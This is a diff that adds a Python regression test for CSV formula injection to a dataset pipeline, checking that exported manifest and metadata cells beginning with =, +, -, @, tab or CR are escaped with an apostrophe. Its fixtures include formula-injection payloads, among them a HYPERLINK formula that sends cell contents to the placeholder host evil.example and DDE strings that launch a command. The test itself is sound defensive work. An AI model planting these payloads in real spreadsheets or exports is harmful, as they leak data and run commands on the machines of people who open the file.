@@ -22,7 +22,7 @@ from mlc_pipeline.dataset.build import count_rows, folder_name, write_sums
 from mlc_pipeline.dataset.verify import rows_fingerprint
 from mlc_pipeline.dataset.export import ExportError, export_version
 from mlc_pipeline.images import load_rgb
-from mlc_pipeline.manifest import MANIFEST_COLUMNS, read_manifest, write_manifest
+from mlc_pipeline.manifest import MANIFEST_COLUMNS, read_manifest, read_manifest_frame, write_manifest
 from storage_world import mlc, write_config
 
 from helpers import FIXTURES as ALL_FIXTURES  # noqa: E402
@@ -399,3 +399,35 @@ def test_the_hf_cards_header_and_licence_line_carry_outside_text_as_text(version
     train = by_photo(datasets.load_dataset(str(out), cache_dir=str(tmp_path / "cache"))["train"])
     assert train["1000.5"]["license"] == "CC BY\n<!-- the card below is hidden"      # the data as it was
 
+
+FORMULAS = {"title": '=HYPERLINK("http://evil.example/"&A1,"x")', "owner": "+SUM(1+1)*cmd|' /C calc'!A0",
+            "license": "=cmd|' /C calc'!A0", "date_taken": "@SUM(1)"}
+
+
+def test_text_a_spreadsheet_would_take_for_a_formula_is_written_as_text_and_read_back_as_it_was(version, tmp_path):
+    """The security26 audit: titles, owners and licence names such as `=cmd|' /C calc'!A0` went into
+    manifest.csv and an imagefolder export's metadata.csv as they came: live formulas in Excel or
+    LibreOffice. A text cell starting with = + - @, a tab or a CR gets a `'` before it (OWASP); the
+    readers of the manifest take it off again, and the data columns are never touched."""
+    rows = rewrite_rows(version, {"1000.5": FORMULAS, "1001": {"title": "-1", "owner": "'=quoted", "license": "\tx"},
+                                  "1002": {"title": "'tis", "owner": "\r=y", "license": "''+z"}})
+    with open(version / "manifest.csv", newline="") as f:
+        written = by_photo(csv.DictReader(f))
+    assert {c: written["1000.5"][c] for c in FORMULAS} == {c: "'" + v for c, v in FORMULAS.items()}
+    assert [written["1001"][c] for c in ("title", "owner", "license")] == ["'-1", "''=quoted", "'\tx"]
+    assert [written["1002"][c] for c in ("title", "owner", "license")] == ["'tis", "'\r=y", "'''+z"]
+    data = [c for c in MANIFEST_COLUMNS if c not in FORMULAS]          # the text columns are FORMULAS' four
+    assert [{c: w[c] for c in data} for w in written.values()] == [{c: r[c] for c in data} for r in rows]
+    assert read_manifest(version / "manifest.csv") == rows                      # as the source gave it
+    assert read_manifest_frame(version / "manifest.csv")[MANIFEST_COLUMNS].to_dict("records") == rows
+    out = tmp_path / "if"
+    export_version(version, "imagefolder", out)                                  # verifies the version first
+    with open(out / "metadata.csv", newline="") as f:
+        listed = by_photo(csv.DictReader(f))
+    assert {c: listed["1000.5"][c] for c in FORMULAS} == {c: "'" + v for c, v in FORMULAS.items()}   # once
+    assert listed["1002"]["title"] == "'tis" and listed["1001"]["owner"] == "''=quoted"
+    assert [{c: listed[p][c] for c in data if c != "path"} for p in written] == \
+        [{c: w[c] for c in data if c != "path"} for w in written.values()]
+    assert not [(k, v) for row in listed.values() for k, v in row.items() if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    export_version(version, "webdataset", tmp_path / "wds")             # the attribution shows the text as it was
+    assert '| =HYPERLINK("http://evil.example/"&amp;A1,"x") |' in (tmp_path / "wds" / "ATTRIBUTION.md").read_text()
